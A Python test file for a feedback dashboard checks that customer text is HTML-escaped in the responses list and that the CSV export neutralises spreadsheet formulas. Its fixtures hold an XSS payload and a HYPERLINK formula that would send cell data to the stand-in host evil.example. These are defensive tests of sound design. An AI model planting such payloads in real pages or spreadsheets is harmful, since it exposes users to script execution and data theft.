"""What customers wrote reaches the dashboard's lists escaped, and its CSV without anything a spreadsheet runs."""

from __future__ import annotations

import csv
import io

from litestar.testing import AsyncTestClient

from feedback.dashboard.rollup import rebuild
from feedback.services.intake import ingest
from feedback.tables import Suggestion
from tests.unit.staff_fixtures import make_staff, sign_in
from tests.unit.test_dashboard_dataset import TIMEZONE, local

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
SCRIPT = "<script>alert(1)</script> and <img src=x onerror=alert(2)>"


async def suggest(text: str) -> None:
    rows = await Suggestion.insert(Suggestion(text=text, created_at=local("03-10"))).returning(Suggestion.id)
    await ingest("suggestion", int(rows[0]["id"]), local("03-10", 13))


async def test_customer_text_is_escaped_in_the_list_and_defused_in_the_csv(client: AsyncTestClient) -> None:
    await make_staff()
    await suggest(SCRIPT)
    await suggest(FORMULA)
    await suggest("-1 star, +1 for the box")
    await rebuild(local("03-10", 14), TIMEZONE)
    assert await sign_in(client, "max") == 303
    listed = await client.get("/app/dashboard/responses?from=2026-03-10&to=2026-03-10&kind=suggestion")
    assert listed.status_code == 200
    assert "<script>alert(1)</script>" not in listed.text and "<img src=x" not in listed.text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in listed.text
    exported = await client.get("/app/dashboard/responses.csv?from=2026-03-10&to=2026-03-10&kind=suggestion")
    texts = sorted(row["text"] for row in csv.DictReader(io.StringIO(exported.text)))
    assert texts == sorted(["'" + FORMULA, "'-1 star, +1 for the box", SCRIPT])


async def test_an_empty_export_still_has_its_header(client: AsyncTestClient) -> None:
    await make_staff()
    assert await sign_in(client, "max") == 303
    exported = await client.get("/app/dashboard/responses.csv?from=2026-03-10&to=2026-03-10")
    assert exported.status_code == 200
    assert exported.text.splitlines() == [
        "id,created_at,kind,order,customer,email,channel,language,categories,sku,product,nps,csat,support_csat,rating,"
        "review_status,label,topics,team,status,title,text"
    ]
